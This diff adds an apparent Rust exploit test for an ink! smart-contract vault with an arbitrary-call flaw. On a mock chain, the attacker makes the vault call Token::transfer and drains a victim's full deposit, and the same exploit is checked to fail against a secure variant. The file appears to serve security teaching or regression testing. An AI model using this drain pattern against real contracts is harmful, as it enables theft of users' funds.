@@ -0,0 +1,85 @@
+//! The vault is made to call Token::transfer on its own token
+
+use anyhow::{ensure, Result as AnyResult};
+use ink::primitives::AccountId;
+use ink::scale::Encode;
+use mock_token::mock_token::MockTokenRef;
+
+use crate::{
+    account_id, attacker, message, owner, victim, Balance, Chain, Constructor, ExploitSpec,
+};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "arbitrary_call",
+    description: "execute(token, Token::transfer, attacker + all) moves every deposit",
+    must_succeed: || {
+        Box::pin(attack(
+            "arbitrary_call",
+            arbitrary_call::arbitrary_call::VaultRef::new,
+        ))
+    },
+    must_fail: || {
+        Box::pin(attack(
+            "arbitrary_call_secure",
+            arbitrary_call_secure::arbitrary_call::VaultRef::new,
+        ))
+    },
+    rejection: "CouldNotReadInput",
+};
+
+const SUPPLY: Balance = 1_000_000;
+
+async fn attack<C, A, R>(
+    contract: &'static str,
+    new: fn(AccountId) -> Constructor<C, A, R>,
+) -> AnyResult<()>
+where
+    C: Clone,
+    A: Encode + Clone + Send + Sync,
+{
+    let mut chain = Chain::new().await?;
+    let token = chain
+        .deploy(
+            "mock_token",
+            &owner(),
+            MockTokenRef::new(vec![account_id(&victim())], SUPPLY),
+        )
+        .await?;
+    let vault = chain.deploy(contract, &owner(), new(token)).await?;
+    chain
+        .send(
+            &victim(),
+            &message!(token, "Token::approve"(vault, SUPPLY)),
+            0,
+        )
+        .await?;
+    chain
+        .send(&victim(), &message!(vault, "deposit"(SUPPLY)), 0)
+        .await?;
+
+    // The token sees the vault as caller
+    let attacker_id = account_id(&attacker());
+    let transfer = (attacker_id, SUPPLY).encode();
+    chain
+        .send(
+            &attacker(),
+            &message!(
+                vault,
+                "execute"(token, ink::selector_bytes!("Token::transfer"), transfer)
+            ),
+            0,
+        )
+        .await?;
+
+    let stolen = chain
+        .query(
+            &attacker(),
+            &message!(token, "Token::balance_of"(attacker_id) -> Balance),
+        )
+        .await?;
+    ensure!(
+        stolen == SUPPLY,
+        "attacker holds {stolen} of {SUPPLY} tokens"
+    );
+    Ok(())
+}